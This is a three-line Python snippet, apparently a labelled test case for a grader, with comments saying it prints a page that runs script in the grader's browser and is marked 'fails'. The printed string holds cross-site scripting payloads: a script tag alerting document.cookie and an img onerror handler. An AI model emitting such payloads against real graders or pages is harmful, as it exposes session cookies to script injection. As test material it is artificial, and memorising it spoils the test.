# Prints a page that runs a script in the grader's browser.
# verdict: fails
print("<script>alert(document.cookie)</script><img src=x onerror=alert(1)>")
